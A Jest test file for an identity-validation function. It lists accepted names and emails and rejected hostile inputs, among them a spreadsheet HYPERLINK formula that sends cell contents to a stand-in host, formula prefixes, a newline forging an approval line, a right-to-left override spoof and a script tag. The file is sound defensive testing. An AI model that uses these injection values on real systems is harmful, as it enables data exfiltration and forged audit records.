import { identityProblem, InvalidIdentityError, MAX_IDENTITY_LENGTH, parseIdentity } from '../../src/domain/identity';

describe('identityProblem', () => {
  it.each([
    'ops@demo.example',
    'ops+dmz@demo.example',
    'alice',
    'Jane O’Neil',
    "Jane O'Neil",
    'Doe, Jane (ops)',
    'CORP\\jdoe',
    'jdoe.adm',
    'Zoë Müller',
    '山田太郎',
    'cli',
  ])('accepts the plausible identity %j', (by) => {
    expect(identityProblem(by)).toBeUndefined();
  });

  it.each([
    ['=HYPERLINK("http://example.invalid/?x="&A1,"Open")', /formula/],
    ['+1+2', /formula/],
    ['-2+3', /formula/],
    ['@SUM(A1)', /formula/],
    ['\t=1', /control characters/],
    ['\r=1', /control characters/],
    ['ops@demo.example\nApproved by: ciso', /control characters/],
    ['alice\u0000', /control characters/],
    ['alice\u0085bob', /control characters/],
    ['alice\u2028bob', /control characters/],
    ['evil\u202Eelpmaxe', /control characters/],
    ['', /empty/],
    ['   ', /empty/],
    ['a'.repeat(MAX_IDENTITY_LENGTH + 1), /longer than/],
    ['<script>', /characters other than/],
    ['a;b', /characters other than/],
    ['a@b@c', /not an email address/],
    ['alice@', /not an email address/],
  ])('refuses %j, saying why', (by, why) => {
    expect(identityProblem(by)).toMatch(why);
  });
});

describe('parseIdentity', () => {
  it('trims and returns a plausible identity', () => {
    expect(parseIdentity('  ops@demo.example ')).toBe('ops@demo.example');
  });

  it('throws naming the value with its control characters made visible', () => {
    expect(() => parseIdentity('a\nb')).toThrow(InvalidIdentityError);
    expect(() => parseIdentity('a\nb')).toThrow('"a\\nb" is not a plausible identity');
  });
});
